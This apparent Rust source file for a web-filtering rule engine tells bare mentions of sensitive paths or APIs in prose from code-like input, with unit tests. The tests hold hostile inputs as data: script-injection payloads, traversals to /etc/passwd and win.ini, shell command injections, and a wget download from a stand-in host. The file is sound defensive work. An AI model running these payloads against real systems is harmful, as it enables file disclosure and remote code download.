//! Telling a mention in prose from code, for the rules marked [`Context::Code`] at paranoia 1.
//!
//! The exemption is narrow on purpose: only a single bare word (a path such as `/etc/hosts`,
//! an API such as `document.cookie`) standing in a sentence of mostly plain words is a
//! mention (`Cat /etc/hosts - what is this file for?`). A value is never prose when it holds
//! anything a browser, a shell or a file API acts on whatever text surrounds it:
//!
//! - markup: a `<tag` closed by `>` or carrying an attribute (`=`), and any `<script`;
//! - a traversal of two levels or more (`../../`, `..\..\`);
//! - a NUL byte (the caller says whether decoding removed one);
//! - shell syntax: a backtick, `$(`, `${`, `|`, `&`, `;`.
//!
//! [`Context::Code`]: super::Context::Code

/// The longest word read as a mention; a longer run without whitespace is not prose. It also
/// bounds the work per match: a word is looked for at most this far on each side.
const MAX_WORD: usize = 128;

/// The fewest plain words a sentence needs around a mention.
const MIN_WORDS: usize = 4;

/// What a value says about prose, computed once per value and rule (linear in its length).
pub(crate) struct Prose<'a> {
    text: &'a str,
    /// Whether the value may hold a mention at all (no markup, traversal, NUL, shell syntax,
    /// and enough plain words).
    possible: bool,
}

impl<'a> Prose<'a> {
    /// Reads `text` (normalised, lower-case); `nul`: whether the raw value held a NUL byte.
    pub(crate) fn new(text: &'a str, nul: bool) -> Self {
        let possible = !nul && !has_code(text) && mostly_words(text);
        Prose { text, possible }
    }

    /// Whether the match `start..end` is a mention inside prose: a single bare word in a value
    /// that may hold one (see the module docs). Bounded: looks at most [`MAX_WORD`] bytes on
    /// each side of the match.
    pub(crate) fn is_mention(&self, start: usize, end: usize) -> bool {
        if !self.possible || end < start || end - start > MAX_WORD {
            return false;
        }
        let text = self.text;
        // Byte-oriented rules match ASCII at both ends; anything else is not read as prose.
        if !text.is_char_boundary(start) || !text.is_char_boundary(end) {
            return false;
        }
        let bytes = text.as_bytes();
        let Some(word_start) = word_edge(bytes, start, Direction::Back) else {
            return false;
        };
        let Some(word_end) = word_edge(bytes, end, Direction::Forward) else {
            return false;
        };
        is_bare_mention(&text[word_start..word_end])
    }
}

enum Direction {
    Back,
    Forward,
}

/// The edge of the whitespace-delimited word around `at`, looking at most [`MAX_WORD`] bytes
/// away; `None` when the word is longer.
fn word_edge(bytes: &[u8], at: usize, direction: Direction) -> Option<usize> {
    match direction {
        Direction::Back => {
            let floor = at.saturating_sub(MAX_WORD);
            match bytes[floor..at].iter().rposition(u8::is_ascii_whitespace) {
                Some(p) => Some(floor + p + 1),
                None if floor == 0 => Some(0),
                None => None,
            }
        }
        Direction::Forward => {
            let ceiling = (at + MAX_WORD).min(bytes.len());
            match bytes[at..ceiling].iter().position(u8::is_ascii_whitespace) {
                Some(p) => Some(at + p),
                None if ceiling == bytes.len() => Some(ceiling),
                None => None,
            }
        }
    }
}

/// A word that names a thing rather than doing something: letters, digits, `/`, `.`, `_`,
/// `-`, maybe parenthesised or followed by punctuation, and no `..` (`/etc/hosts`,
/// `document.cookie`, `boot.ini,`). `alert(1)`, `"/etc/passwd"` and `../etc/passwd` are not.
fn is_bare_mention(word: &str) -> bool {
    let word = word
        .strip_prefix('(')
        .unwrap_or(word)
        .trim_end_matches(['.', ',', ':', '!', '?', ')']);
    !word.is_empty()
        && !word.contains("..")
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'~'))
}

/// Whether `text` holds markup, a multi-level traversal or shell syntax (see the module docs).
pub(super) fn has_code(text: &str) -> bool {
    let bytes = text.as_bytes();
    if text.contains(['`', '|', '&', ';']) || text.contains("$(") || text.contains("${") {
        return true;
    }
    if text.contains("<script") {
        return true;
    }
    // A `<tag` (a letter, `/`, `!` or `?` after `<`) with a `>` or `=` after it.
    if let Some(first_tag) = bytes.windows(2).position(|pair| {
        pair[0] == b'<' && (pair[1].is_ascii_alphabetic() || matches!(pair[1], b'/' | b'!' | b'?'))
    }) && bytes[first_tag..].iter().any(|&b| b == b'>' || b == b'=')
    {
        return true;
    }
    // `..` then a separator then `..` again, whatever the separators (`../../`, `..\..\`,
    // `..//..`).
    let mut rest = text;
    while let Some(at) = rest.find("..") {
        let after = rest[at..].trim_start_matches('.');
        let after_separators = after.trim_start_matches(['/', '\\']);
        if after_separators.len() < after.len() && after_separators.starts_with("..") {
            return true;
        }
        rest = after;
    }
    false
}

/// Whether `text` reads as a sentence: at least [`MIN_WORDS`] plain words, and at most one
/// other token for every three plain words, plus one (the mention).
pub(super) fn mostly_words(text: &str) -> bool {
    let (mut words, mut others) = (0usize, 0usize);
    for token in text.split_whitespace() {
        if is_plain_word(token) {
            words += 1;
        } else {
            others += 1;
        }
    }
    words >= MIN_WORDS && others <= 1 + words / 3
}

/// A word of prose: letters, maybe with an apostrophe, quoted, parenthesised or followed by
/// punctuation (`"new"`, `(see`, `done.`, `isn't`), or a dash.
pub(super) fn is_plain_word(word: &str) -> bool {
    if word == "-" {
        return true;
    }
    let word = word.trim_matches(['\'', '"', '(', ')', '.', ',', ':', '!', '?']);
    !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphabetic() || b == b'\'' || b >= 0x80)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mention(text: &str, needle: &str) -> bool {
        let start = text.find(needle).unwrap();
        Prose::new(text, false).is_mention(start, start + needle.len())
    }

    #[test]
    fn reads_a_bare_path_in_a_sentence_as_a_mention() {
        assert!(mention(
            "add the host to /etc/hosts and restart",
            "/etc/hosts"
        ));
        assert!(mention(
            "cat /etc/hosts - what is this file for?",
            "/etc/hosts"
        ));
        assert!(mention("boot.ini is gone since vista", "boot.ini"));
        assert!(mention(
            "you can read document.cookie from javascript unless it is httponly",
            "document.cookie"
        ));
    }

    #[test]
    fn never_reads_markup_as_prose() {
        assert!(!mention("a <script>alert(1)</script> b", "<script"));
        assert!(!mention(
            "the <script> tag loads javascript here",
            "<script"
        ));
        assert!(!mention(
            "hi there friend <b onclick=x> document.cookie and more words",
            "document.cookie"
        ));
        assert!(!mention("\"><script>alert(1)</script> a b c d", "alert(1"));
    }

    #[test]
    fn never_reads_a_traversal_or_a_nul_as_prose() {
        assert!(!mention("a ../../../../etc/passwd b c d e", "/etc/passwd"));
        assert!(!mention(
            "a b c ..\\..\\..\\windows\\win.ini d",
            "windows\\win.ini"
        ));
        assert!(!mention("see ../etc/passwd in the file now", "/etc/passwd"));
        let text = "please read /etc/passwd in this nice file";
        let start = text.find("/etc").unwrap();
        assert!(!Prose::new(text, true).is_mention(start, start + 11));
    }

    #[test]
    fn never_reads_shell_syntax_as_prose() {
        assert!(!mention("a `id` b c d e", "`id`"));
        assert!(!mention(
            "see the docs here `wget evil.example/x -o /tmp/x`",
            "`wget"
        ));
        assert!(!mention("run `ls -la` in the folder to see files", "`ls"));
        assert!(!mention(
            "127.0.0.1 && cat /etc/passwd and so on",
            "/etc/passwd"
        ));
        assert!(!mention("; cat /etc/passwd is what we do", "/etc/passwd"));
        assert!(!mention(
            "x $(cat /etc/passwd) is what we do",
            "/etc/passwd"
        ));
    }

    #[test]
    fn needs_a_sentence_of_mostly_words() {
        assert!(!mention("/etc/passwd a b", "/etc/passwd"));
        assert!(!mention("/etc/passwd", "/etc/passwd"));
        assert!(!mention("logs under /var/log/nginx", "/var/log/"));
        assert!(!mention("x=1 y=2 z=3 /etc/passwd a b c d", "/etc/passwd"));
    }

    #[test]
    fn bounds_the_word_it_reads() {
        let long = format!("a b c d /etc/passwd{} e", "x".repeat(4 * MAX_WORD));
        assert!(!mention(&long, "/etc/passwd"));
    }
}
